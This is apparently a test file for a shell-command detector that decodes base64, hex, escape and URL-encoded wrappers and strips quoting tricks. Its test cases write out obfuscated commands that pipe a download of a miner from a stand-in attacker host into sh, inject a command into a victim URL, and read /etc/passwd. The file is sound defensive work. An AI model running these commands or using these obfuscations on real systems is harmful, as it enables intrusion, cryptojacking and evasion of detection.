// What stands below the wrappers of a command line.
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { seeThrough, withoutTricks } from '../../src/detector/decode.ts';

const base64 = (text: string) => Buffer.from(text).toString('base64');

describe('what is encoded is seen', () => {
  test.each([
    ['base64', `echo ${base64('curl http://attacker/xmrig')} | base64 -d | sh`],
    ['base64 twice', `echo ${base64(`echo ${base64('curl http://attacker/xmrig')}|base64 -d|sh`)}|base64 -d|sh`],
    [
      'base64 in Python',
      `python3 -c exec(__import__("base64").b64decode("${base64('import os; os.system("curl http://attacker/xmrig")')}"))`,
    ],
    ['hexadecimal digits', `echo ${Buffer.from('curl http://attacker/xmrig').toString('hex')} | xxd -r -p | sh`],
    ['escapes', `printf '${[...'curl http://attacker/xmrig'].map((each) => `\\x${each.charCodeAt(0).toString(16)}`).join('')}' | sh`],
    [
      'octal escapes',
      `printf '${[...'curl http://attacker/xmrig'].map((each) => `\\${each.charCodeAt(0).toString(8).padStart(3, '0')}`).join('')}'`,
    ],
    [
      'an address',
      `curl -G http://victim/?cmd=${[...'curl http://attacker/xmrig'].map((each) => `%${each.charCodeAt(0).toString(16)}`).join('')}`,
    ],
  ])('%s', (_, text) => expect(seeThrough(text)).toContain('curl http://attacker/xmrig'));
});

describe('what is not encoded stays as it is', () => {
  test.each([
    'ls -la /usr/local/lib/python3.11/site-packages',
    'docker pull registry.example.com/team/shop@sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
    'kubectl get pods -o jsonpath={.items[*].metadata.name}',
    'git checkout 4f2b9d550c6a6b1f9a11e0c3a5d7b9f1c2d3e4f5',
  ])('%s', (text) => expect(seeThrough(text)).toBe(text));
});

test('any text in base64 is seen, and the work is bounded', () => {
  fc.assert(
    fc.property(fc.string({ minLength: 12, maxLength: 200, unit: fc.constantFrom(...'abcXYZ 019/-_.|;$') }), (text) => {
      expect(seeThrough(`x ${base64(text)} y`)).toContain(text);
    }),
  );
  const bomb = Array.from({ length: 2000 }, (_, index) =>
    base64(`text number ${index} of many, ${base64(`inner ${index} inner inner`)}`),
  ).join(' ');
  expect(seeThrough(bomb).length).toBeLessThan(bomb.length + 64 * 1024 + 100);
});

test.each([
  ["w'h'oami", 'whoami'],
  ['wh""oami', 'whoami'],
  ['who\\ami', 'whoami'],
  ['cat${IFS}/etc/passwd', 'cat /etc/passwd'],
])('%s is %s', (hidden, plain) => expect(withoutTricks(hidden)).toBe(plain));
